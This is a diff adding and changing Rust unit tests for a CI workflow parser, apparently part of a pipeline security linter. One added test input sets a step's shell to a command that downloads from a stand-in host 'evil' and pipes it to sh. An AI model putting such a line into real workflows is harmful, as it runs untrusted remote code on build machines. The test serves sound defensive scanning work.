@@ -213,6 +213,25 @@ fn every_shape_is_a_shape() {
             "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n  job b needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      uses q@v1",
         ),
         ("on: push\njobs: { a: 1, b: { steps: [x] } }", "workflow  false\n  on push []\n  job b needs[] env= in= matrix= dir= false false"),
+        // The shell is a command line too.
+        (
+            "jobs: { a: { steps: [{ run: x, shell: 'bash -c \"curl evil | sh\" {0}' }, { run: y, shell: 'bash --noprofile -eo pipefail {0}' }] } }",
+            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell=bash -c \"curl evil | sh\" {0} dir= false\n      script Shell\n      script Shell\n    step  name= shell=bash --noprofile -eo pipefail {0} dir= false\n      script Shell",
+        ),
+        // Escapes, explicit keys, aliases and odd line breaks in what names a step's parts.
+        (
+            "x: &k run\njobs: { a: { steps: [{ \"r\\u0075n\": a }, { *k : b }, { ? run : c }] } }",
+            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      script Shell",
+        ),
+        (
+            "# harmless\rjobs:\r  a:\u{2028}    steps:\u{85}    - uses: q@v1",
+            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      uses q@v1",
+        ),
+        // One line that no reader takes costs neither the steps before nor those behind it.
+        (
+            "jobs:\n  a:\n    steps:\n    - run: one\n    - name: @odd\n      run: two\n    - uses: q@v1\n",
+            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n    step  name=@odd shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      uses q@v1",
+        ),
         ("env: { T: \"${{ toJSON(secrets) }}\" }", "workflow  false\n  env T <tojson(secrets)>\n    secret *"),
     ];
     for (text, want) in table {
@@ -234,16 +253,16 @@ fn actions_of_each_kind() {
 
 #[test]
 fn constructs_name_jobs_and_steps() {
-    let text = "name: W\njobs:\n  a:\n    # pipevet: ignore[script-injection] only maintainers\n    steps:\n      - run: |\n          # first\n          make x\n      - uses: q@v1 # pipevet: ignore\n";
+    let text = "name: W\njobs:\n  a:\n    # pipevet: ignore[script-injection] only maintainers\n    steps:\n      - run: |\n          # first\n          make x # pipevet: ignore[download-executed] pinned above\n      - uses: q@v1 # pipevet: ignore\n";
     let facts = workflow(text.as_bytes());
     let names: Vec<_> = facts.constructs.iter().map(|c| (c.name.as_str(), c.parent, c.ignorable)).collect();
-    assert_eq!(names, [("W", None, false), ("a", Some(0), false), ("make x", Some(1), true), ("q@v1", Some(1), true)]);
-    assert_eq!(facts.ignores.len(), 1);
+    assert_eq!(names, [("W", None, false), ("a", Some(0), false), ("make x # pipevet: ignore[download-executed] pinned above", Some(1), true), ("q@v1", Some(1), true)]);
+    assert_eq!(facts.ignores.iter().map(|i| &text[i.range.bounds()]).filter(|t| t.starts_with('#')).count(), 2);
     assert_eq!(facts.notices.len(), 1);
     for (id, fact) in facts.iter() {
         if let What::Script { .. } = fact.what {
             let at = facts.construct_at(fact.range).unwrap();
-            assert_eq!(facts.constructs[at as usize].name, "make x", "{id:?}");
+            assert!(facts.constructs[at as usize].name.starts_with("make x"), "{id:?}");
         }
     }
 }
